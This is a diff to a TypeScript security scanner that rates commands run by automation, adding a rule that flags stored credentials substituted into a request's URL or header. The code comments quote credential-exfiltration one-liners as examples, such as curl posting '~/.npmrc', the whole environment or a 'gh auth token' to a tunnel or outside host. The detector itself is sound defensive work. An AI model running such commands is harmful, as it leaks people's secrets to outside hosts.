@@ -1,5 +1,5 @@
 import type { Severity } from '../../signal/schema.js';
-import { readsCredentialStore, sendsData } from '../build-code/behaviors.js';
+import { credentialSubstitutedIntoRequest, readsCredentialStore, sendsData } from '../build-code/behaviors.js';
 import { dnsLookupInShell } from '../code/dns-exfiltration.js';
 import { WHOLE_ENVIRONMENT } from '../code/sink-rules.js';
 import { isSuspiciousEndpoint } from '../code/network-endpoints.js';
@@ -34,7 +34,9 @@ const INLINE_LANGUAGES = ['python', 'js', 'ruby'] as const;
  * How much a command that automation runs on someone's machine deserves a look: high when it pipes a
  * download into a shell, decodes and runs hidden text (piped into a shell, or given to `execSync(`,
  * `eval(`, `exec(`, `os.system(` in an inline program), looks up a name built from data (DNS
- * exfiltration), sends data while reading a credential store (the `~/.ssh` folder too) or the whole
+ * exfiltration), sends data while reading a credential store (the `~/.ssh` folder too, git's stored
+ * credentials) or puts a stored credential into a request's URL or header (`curl "https://h/?t=$(gh
+ * auth token)"`; not a service's token given to that service), or the whole
  * environment (in an inline program too), sends the values of the variables it picks by a secret's
  * word (secretNamedVariablesSent), or reaches a bare public IP or a paste, tunnel or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
  * https://x.trycloudflare.com`), medium when it downloads or reaches the network otherwise, `base`
@@ -47,6 +49,8 @@ export function commandSeverity(command: string, base: Severity): Severity {
   if (dnsLookupInShell(command) !== null) return 'high';
   // Credentials or the whole environment sent somewhere (`curl -d "$(cat ~/.npmrc)" …`, `env | curl -d @- …`), whatever the host.
   if (sendsData(command, 'shell') && (readsCredentialStore(command) || HOME_SSH_FOLDER.test(command) || WHOLE_ENVIRONMENT.any?.test(command) === true)) return 'high';
+  // A stored credential put into a request's URL or header (`curl "https://h/?t=$(gh auth token)"`), not a service's token given to that service.
+  if (credentialSubstitutedIntoRequest(command)) return 'high';
   // The variables named like secrets picked and their values sent (`for v in $(compgen -e | grep -i token); do curl … -d "${!v}"; done`).
   if (secretNamedVariablesSent(command.split('\n')) !== null) return 'high';
   // The same written as an inline program (`python -c "…urlopen(u, data=json.dumps(dict(os.environ))…"`, `node -e "…"`).
